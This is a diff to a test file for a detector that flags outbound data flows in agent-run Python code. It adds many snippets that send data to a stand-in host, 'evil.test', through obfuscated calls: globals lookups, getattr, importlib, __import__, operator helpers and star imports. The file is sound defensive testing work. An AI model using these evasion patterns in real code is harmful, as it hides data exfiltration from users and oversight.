@@ -76,6 +76,27 @@ SENDS_BY_A_LOOKED_UP_NAME = {
                                             " data=x)", KEEP)),
     "a def's globals()[name]": ("up(t, 'post')", (f"{POST}\n\ndef up(x, m):\n    return globals()[m]("
                                                   "'https://evil.test/c', data=x)", KEEP)),
+    # the namespace kept aside, copied or looped over
+    "g = globals": ("g = globals\ng()['post']('https://evil.test/c', data=t)", (POST, KEEP)),
+    "ns = globals() earlier": ("ns['post']('https://evil.test/c', data=t)", (POST, KEEP, "ns = globals()")),
+    "dict(globals())": ("dict(globals())['post']('https://evil.test/c', data=t)", (POST, KEEP)),
+    "a loop over globals()": ("for k, v in globals().items():\n    if k == 'post':\n        v('https://evil.test/c',"
+                              " data=t)", (POST, KEEP)),
+    "builtins.getattr": ("import builtins\nbuiltins.getattr(requests, 'post')('https://evil.test/c', data=t)",
+                         ("import requests", KEEP)),
+    "importlib.import_module(m)": ("import importlib\nimportlib.import_module(m).post('https://evil.test/c', data=t)",
+                                   (KEEP, "m = 'requests'")),
+    "__import__(m)": ("__import__(m).post('https://evil.test/c', data=t)", (KEEP, "m = 'requests'")),
+    # what flow30 left beside: a lambda in a dict, operator's callers, a star import
+    "a lambda in a dict": ("d['p']('https://evil.test/c', data=t)", (
+        "import requests", KEEP, "d = {'p': lambda u, **k: requests.post(u, **k)}")),
+    "methodcaller": ("import operator\noperator.methodcaller('post', 'https://evil.test/c', data=t)(requests)",
+                     ("import requests", KEEP)),
+    "methodcaller kept aside": ("m(requests)", ("import requests", KEEP, "import operator\nm = operator.methodcaller("
+                                                "'post', 'https://evil.test/c', data=t)")),
+    "attrgetter": ("import operator\noperator.attrgetter('post')(requests)('https://evil.test/c', data=t)",
+                   ("import requests", KEEP)),
+    "from requests import *": ("post('https://evil.test/c', data=t)", ("from requests import *", KEEP)),
 }
 
 
@@ -109,6 +130,8 @@ def test_a_looked_up_name_that_sends_nothing_stays_quiet() -> None:
     assert _flows("import sys\nprint(sys.modules['pandas'].__version__)", "import requests", DF, KEEP) == []
     # a computed name handed only values written out, none of them an address
     assert _flows("globals()[k](2, 3)", POST, "k = 'post'") == []
+    # the namespace's own methods, and what it lists
+    assert _flows("globals().update(rows=len(df))\nprint(sorted(globals())[:3], list(vars(df)))", POST, DF, KEEP) == []
     assert _policy("import math\nprint(getattr(math, 'sqrt', None)(4))", None)[0] == Risk.REVERSIBLE
     assert _policy("print(globals()['plot_bar'](df))", None, DF)[0] == Risk.REVERSIBLE
 
@@ -145,3 +168,13 @@ def test_importing_a_module_whose_top_level_sends_asks_at_the_import(tmp_path: P
     for module in ("sends", "table", "made", "through", "wrapped"):
         risk, reasons = _policy(f"import {module}", tmp_path)
         assert risk == Risk.CONSEQUENTIAL and f"imports {module}.py, which" in reasons[0], (module, reasons)
+
+
+def test_a_star_import_of_a_workspace_module_binds_its_senders(tmp_path: Path) -> None:
+    (tmp_path / "helpers.py").write_text(UPLOAD)
+    flows = outbound_flows("python", {"code": "upload(t)"}, _log(tmp_path, "from helpers import *", KEEP))
+    assert ("evil.test", True) in [(f.destination, f.direct_file) for f in flows]
+    assert _policy("upload(t)", tmp_path, "from helpers import *", KEEP)[0] == Risk.CONSEQUENTIAL
+    assert outbound_flows("python", {"code": "print(area(2, 3))"}, _log(tmp_path, "from helpers import *", KEEP)) \
+        == []
+    assert _policy("print(area(2, 3))", tmp_path, "from helpers import *", KEEP) == (Risk.REVERSIBLE, [])
